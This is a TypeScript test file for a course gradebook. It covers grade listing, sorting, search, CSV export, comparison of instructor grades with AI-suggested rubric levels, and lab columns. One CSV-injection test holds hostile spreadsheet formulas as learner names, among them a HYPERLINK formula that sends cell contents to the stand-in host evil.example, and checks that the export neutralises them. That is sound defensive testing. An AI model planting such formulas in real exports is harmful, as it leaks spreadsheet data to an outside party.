import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { eq, sql } from 'drizzle-orm';
import { createTestDb } from '../../../../tests/support/db';
import type { ContentDir } from '../../../../tests/support/content';
import { makeUser } from '../../../../tests/support/factories';
import { syncExercises } from '../../../../tests/support/exercise-content';
import { demoGrade, makeCohort, makeSubmission } from '../../../../tests/support/grading';
import type { Db } from '../db';
import {
	feedback,
	feedbackCriteria,
	gradeReleases,
	labAttempts,
	submissions,
	users
} from '../db/schema';
import { labKind } from '../content/kinds';
import { labColumns } from '../labs/gradebook';
import { syncContent } from '../content/sync';
import { rubricHash } from '../feedback/rubric';
import { resolveExerciseRubric } from '../exercises';
import {
	criterionStats,
	gradebookCsv,
	listGradebook,
	registerGradebookSource,
	GRADEBOOK_SOURCES,
	saveGrade,
	scoreDistribution
} from './index';

let db: Db;
let cleanupDb: () => void;
let content: ContentDir;
beforeEach(() => {
	({ db, cleanup: cleanupDb } = createTestDb());
	content = syncExercises(db, { demo: {} });
});
afterEach(() => {
	content.cleanup();
	cleanupDb();
});

const grade = demoGrade;

/** A model feedback row suggesting `levels` (as the pipeline would store it). */
function aiSuggests(submissionId: number, levels: number[], source: 'model' | 'offline' = 'model') {
	const rubric = resolveExerciseRubric(db, 'exercise-demo', 1)!;
	const f = db
		.insert(feedback)
		.values({
			submissionId,
			source,
			model: source === 'model' ? 'fake' : null,
			promptVersion: 'p1',
			rubricVersion: 1,
			rubricHash: rubricHash(rubric),
			locale: 'zh-CN',
			totalPoints: 0,
			maxPoints: 16
		})
		.returning()
		.get();
	rubric.criteria.forEach((c, position) =>
		db
			.insert(feedbackCriteria)
			.values({
				feedbackId: f.id,
				criterionId: c.id,
				position,
				level: levels[position],
				points: 0,
				maxPoints: 4,
				evidence: [],
				missing: [],
				covered: [],
				verified: true
			})
			.run()
	);
}

describe('the gradebook', () => {
	it('counts only released exercise grades; searches, sorts and pages in SQL; exports CSV for Excel', async () => {
		const instructor = await makeUser(db, { role: 'instructor' });
		const other = await makeUser(db, { role: 'instructor' });
		const zhang = await makeUser(db, { displayName: '张三, "老张"' });
		const li = await makeUser(db, { displayName: '李四\n第二行' });
		const wang = await makeUser(db, { displayName: 'Wang Wu' });
		const cohort = makeCohort(db, instructor, [zhang.id, li.id, wang.id]);
		const a = makeSubmission(db, zhang.id, 'a');
		const b = makeSubmission(db, li.id, 'b');
		const c = makeSubmission(db, wang.id, 'c');
		saveGrade(db, instructor, {
			submissionId: a,
			criteria: grade([2, 2, 2, 1]),
			comment: '',
			release: true
		});
		saveGrade(db, instructor, {
			submissionId: b,
			criteria: grade([1, 1, 0, 0]),
			comment: '',
			release: true
		});
		// A draft does not count.
		saveGrade(db, instructor, {
			submissionId: c,
			criteria: grade([2, 2, 2, 2]),
			comment: '',
			release: false
		});

		const book = (q: Partial<Parameters<typeof listGradebook>[3]> = {}) =>
			listGradebook(db, instructor, cohort.id, { locale: 'zh-CN', ...q })!;
		const col = book().columns.findIndex((x) => x.key === 'exercise:exercise-demo');
		expect(book().columns[col]).toMatchObject({ maxPoints: 16, kind: 'exercise' });
		const byName = book({ sort: 'name' }).rows;
		expect(byName.map((r) => r.cells[col])).toEqual(
			byName.map((r) => (r.userId === zhang.id ? 14 : r.userId === li.id ? 4 : null))
		);
		expect(book({ sort: 'exercise:exercise-demo', dir: 'desc' }).rows.map((r) => r.userId)).toEqual(
			[zhang.id, li.id, wang.id]
		);
		expect(book({ sort: 'exercise:exercise-demo', dir: 'asc' }).rows.map((r) => r.userId)).toEqual([
			li.id,
			zhang.id,
			wang.id
		]);
		expect(book({ search: 'wang' }).rows.map((r) => r.userId)).toEqual([wang.id]);
		expect(book({ search: '%' }).total).toBe(0);
		expect(book({ pageSize: 2, page: 2 }).rows).toHaveLength(1);
		expect(listGradebook(db, other, cohort.id, { locale: 'en' })).toBeNull();

		const csv = gradebookCsv(db, instructor, cohort.id, 'zh-CN', {
			name: '姓名',
			email: '邮箱',
			max: (t, m) => `${t}（满分 ${m}）`
		})!;
		expect(csv.startsWith('\ufeff姓名,邮箱,')).toBe(true);
		expect(csv).toContain('为银行助手设计网关（满分 16）');
		expect(csv).toContain(`"张三, ""老张""",${zhang.email},`);
		expect(csv).toContain(`"李四\n第二行",${li.email},`);
		expect(csv).toContain(',14.00');
		expect(csv).toContain(',4.00');
		expect(csv.split('\r\n').filter(Boolean)).toHaveLength(4);
		expect(
			gradebookCsv(db, other, cohort.id, 'en', { name: '', email: '', max: (t) => t })
		).toBeNull();

		const column = book().columns[col];
		expect(scoreDistribution(db, instructor, cohort.id, column)?.buckets).toEqual([
			0, 0, 1, 0, 0, 0, 0, 0, 1, 0
		]);
	});

	it('neutralises spreadsheet formulas in the CSV (OWASP CSV injection)', async () => {
		const instructor = await makeUser(db, { role: 'instructor' });
		const names = [
			'=HYPERLINK("http://evil.example/?x="&A1,"Open")',
			'+1+1',
			'-2+3',
			'@SUM(A1:A9)',
			'\tTab',
			'\rReturn',
			'Plain = name'
		];
		const learners = [];
		for (const displayName of names) {
			const u = await makeUser(db);
			// Stored as is (sign-up trims names, but nothing else guarantees it).
			db.update(users).set({ displayName }).where(eq(users.id, u.id)).run();
			learners.push(u);
		}
		const mailer = await makeUser(db, { displayName: 'Mail', email: '=cmd@example.test' });
		const cohort = makeCohort(db, instructor, [...learners.map((l) => l.id), mailer.id]);
		const csv = gradebookCsv(db, instructor, cohort.id, 'en', {
			name: '=Name',
			email: 'Email',
			max: (t) => t
		})!;
		const cells = csv
			.slice(1)
			.split('\r\n')
			.flatMap((line) => line.split(','));
		// No cell starts (after an optional opening quote) with a formula character.
		expect(cells.filter((c) => /^"?[=+\-@\t\r]/.test(c))).toEqual([]);
		expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1`);
		expect(csv).toContain("'+1+1,");
		expect(csv).toContain("'-2+3,");
		expect(csv).toContain("'@SUM(A1:A9),");
		expect(csv).toContain("'\tTab,");
		expect(csv).toContain(`"'\rReturn",`);
		expect(csv).toContain("'=cmd@example.test,");
		expect(csv.startsWith("\ufeff'=Name,Email,")).toBe(true);
		// Text that only contains a formula character further in is left as it is.
		expect(csv).toContain('Plain = name,');
	});

	it('averages released levels per criterion and compares them with the AI’s', async () => {
		const instructor = await makeUser(db, { role: 'instructor' });
		const l1 = await makeUser(db);
		const l2 = await makeUser(db);
		const cohort = makeCohort(db, instructor, [l1.id, l2.id]);
		const a = makeSubmission(db, l1.id, 'a');
		const b = makeSubmission(db, l2.id, 'b');
		aiSuggests(a, [2, 2, 1, 0]);
		aiSuggests(b, [2, 1, 1, 0]);
		saveGrade(db, instructor, {
			submissionId: a,
			criteria: grade([2, 2, 2, 0]),
			comment: '',
			release: true
		});
		saveGrade(db, instructor, {
			submissionId: b,
			criteria: grade([1, 1, 1, 0]),
			comment: '',
			release: true
		});
		const stats = criterionStats(db, instructor, cohort.id, 'exercise-demo')!;
		expect(stats.find((s) => s.criterionId === 'gateway')).toMatchObject({
			averageLevel: 1.5,
			compared: 2,
			agree: 1,
			differing: [{ submissionId: b, released: 1, suggested: 2 }]
		});
		expect(stats.find((s) => s.criterionId === 'interface')).toMatchObject({
			agree: 1,
			differing: [{ submissionId: a, released: 2, suggested: 1 }]
		});
	});

	it('compares the newest release of each learner’s latest released submission with its newest AI feedback', async () => {
		content.cleanup();
		content = syncExercises(db, { demo: { attemptLimit: 3 } });
		const instructor = await makeUser(db, { role: 'instructor' });
		const learner = await makeUser(db);
		const cohort = makeCohort(db, instructor, [learner.id]);
		const release = (submissionId: number, levels: number[]) =>
			saveGrade(db, instructor, {
				submissionId,
				criteria: grade(levels),
				comment: '',
				release: true
			});
		const first = makeSubmission(db, learner.id, 'first');
		release(first, [0, 0, 0, 0]);
		const second = makeSubmission(db, learner.id, 'second');
		aiSuggests(second, [2, 2, 2, 2]);
		aiSuggests(second, [1, 1, 1, 1]); // newer: this one counts
		aiSuggests(second, [0, 0, 0, 0], 'offline'); // not AI
		release(second, [2, 2, 2, 2]);
		release(second, [1, 2, 2, 2]); // a second release of it (a regrade): this one counts
		makeSubmission(db, learner.id, 'third'); // not released: does not count
		const stats = criterionStats(db, instructor, cohort.id, 'exercise-demo')!;
		expect(stats.map((s) => [s.criterionId, s.released, s.averageLevel])).toEqual([
			['gateway', 1, 1],
			['resilience', 1, 2],
			['interface', 1, 2],
			['monitoring', 1, 2]
		]);
		expect(stats.find((s) => s.criterionId === 'gateway')).toMatchObject({ compared: 1, agree: 1 });
		expect(stats.find((s) => s.criterionId === 'resilience')).toMatchObject({
			compared: 1,
			agree: 0,
			differing: [{ submissionId: second, released: 2, suggested: 1 }]
		});
	});

	it('finds no AI level for a criterion the AI feedback lacks, whatever its id (even "constructor")', async () => {
		const instructor = await makeUser(db, { role: 'instructor' });
		const learner = await makeUser(db);
		const cohort = makeCohort(db, instructor, [learner.id]);
		const submissionId = makeSubmission(db, learner.id, 'a');
		aiSuggests(submissionId, [1, 1, 1, 1]);
		// A release whose criteria include ids the AI feedback has no level for (written as a
		// rubric of another version could have them).
		db.insert(gradeReleases)
			.values({
				submissionId,
				rawPoints: 3,
				maxPoints: 8,
				points: 3,
				criteria: ['constructor', 'toString', 'gateway'].map((criterionId) => ({
					criterionId,
					level: 1,
					points: 1,
					maxPoints: 4,
					comment: ''
				}))
			})
			.run();
		const stats = criterionStats(db, instructor, cohort.id, 'exercise-demo')!;
		for (const id of ['constructor', 'toString'])
			expect(stats.find((s) => s.criterionId === id)).toMatchObject({
				released: 1,
				compared: 0,
				agree: 0,
				differing: []
			});
		expect(stats.find((s) => s.criterionId === 'gateway')).toMatchObject({ compared: 1, agree: 1 });
	});

	it('takes more column sources, each registered once', async () => {
		const instructor = await makeUser(db, { role: 'instructor' });
		const cohort = makeCohort(db, instructor, [(await makeUser(db)).id]);
		const before = GRADEBOOK_SOURCES.length;
		const labs = () => [
			{
				key: 'lab:x',
				kind: 'lab',
				itemId: 'x',
				title: 'Lab X',
				maxPoints: 10,
				method: 'lab',
				points: () => sql`7.5`
			}
		];
		registerGradebookSource(labs);
		registerGradebookSource(labs);
		try {
			expect(GRADEBOOK_SOURCES.length).toBe(before + 1);
			const book = listGradebook(db, instructor, cohort.id, { locale: 'en' })!;
			expect(book.columns.at(-1)?.key).toBe('lab:x');
			expect(book.rows[0].cells.at(-1)).toBe(7.5);
		} finally {
			GRADEBOOK_SOURCES.splice(GRADEBOOK_SOURCES.indexOf(labs), 1);
		}
	});
	it('shows each lab as a column in percent: the best counting attempt, runbooks by their shown feedback', async () => {
		syncContent(db, 'cases', { kinds: [labKind] });
		const instructor = await makeUser(db, { role: 'instructor' });
		const ann = await makeUser(db, { displayName: 'Ann' });
		const bob = await makeUser(db, { displayName: 'Bob' });
		const cat = await makeUser(db, { displayName: 'Cat' });
		const cohort = makeCohort(db, instructor, [ann.id, bob.id, cat.id]);
		let n = 0;
		const attempt = (
			userId: number,
			itemId: string,
			step: 'schema' | 'openapi' | 'capacity' | 'runbook',
			score: number | null,
			maxScore: number,
			submissionId: number | null = null
		) =>
			db
				.insert(labAttempts)
				.values({
					userId,
					itemId,
					itemVersion: 1,
					step,
					locale: 'en',
					attempt: ++n,
					answer: {},
					score,
					maxScore,
					submissionId,
					idempotencyKey: `lab-gb-${n}`
				})
				.run();
		const schemaLab = 'lab-interface-schema-ticket-classifier';
		const runbookLab = 'lab-runbook-429-storm';
		// Ann: 9/15 then 12/15 (best 80 %); the OpenAPI step (15/15) does not count.
		attempt(ann.id, schemaLab, 'schema', 9, 15);
		attempt(ann.id, schemaLab, 'schema', 12, 15);
		attempt(ann.id, schemaLab, 'openapi', 15, 15);
		// Bob: only the OpenAPI step — nothing counts.
		attempt(bob.id, schemaLab, 'openapi', 15, 15);
		// Cat: a runbook with an offline check (2/8) and a newer-but-preferred model feedback (6/8 = 75 %).
		const sub = db
			.insert(submissions)
			.values({
				userId: cat.id,
				itemId: runbookLab,
				itemVersion: 1,
				locale: 'en',
				answer: 'runbook',
				idempotencyKey: 'lab-gb-sub'
			})
			.returning()
			.get();
		attempt(cat.id, runbookLab, 'runbook', null, 8, sub.id);
		const fb = (source: 'model' | 'offline', totalPoints: number) =>
			db
				.insert(feedback)
				.values({
					submissionId: sub.id,
					source,
					model: source === 'model' ? 'fake' : null,
					promptVersion: 'p1',
					rubricVersion: 1,
					rubricHash: 'h',
					locale: 'en',
					totalPoints,
					maxPoints: 8
				})
				.run();
		fb('model', 6);
		fb('offline', 2);

		registerGradebookSource(labColumns);
		try {
			const book = listGradebook(db, instructor, cohort.id, { locale: 'en', sort: 'name' })!;
			const schemaCol = book.columns.findIndex((c) => c.key === `lab:${schemaLab}`);
			const runbookCol = book.columns.findIndex((c) => c.key === `lab:${runbookLab}`);
			expect(book.columns[schemaCol]).toMatchObject({ kind: 'lab', maxPoints: 100 });
			expect(book.columns[schemaCol].method).toMatch(/best attempt/);
			expect(book.rows.map((r) => r.cells[schemaCol])).toEqual([80, null, null]);
			expect(book.rows.map((r) => r.cells[runbookCol])).toEqual([null, null, 75]);
			expect(
				listGradebook(db, instructor, cohort.id, {
					locale: 'en',
					sort: `lab:${schemaLab}`,
					dir: 'desc'
				})!.rows[0].userId
			).toBe(ann.id);
			const csv = gradebookCsv(db, instructor, cohort.id, 'en', {
				name: 'Name',
				email: 'Email',
				max: (t, m) => `${t} (max ${m})`
			})!;
			const [header, annRow, , catRow] = csv.slice(1).split('\r\n');
			expect(header).toContain(`${book.columns[schemaCol].title} (max 100)`);
			expect(annRow.split(',')[schemaCol + 2]).toBe('80.00');
			expect(catRow.split(',')[runbookCol + 2]).toBe('75.00');
			expect(catRow.split(',')[schemaCol + 2]).toBe('');
		} finally {
			GRADEBOOK_SOURCES.splice(GRADEBOOK_SOURCES.indexOf(labColumns), 1);
		}
	});
});
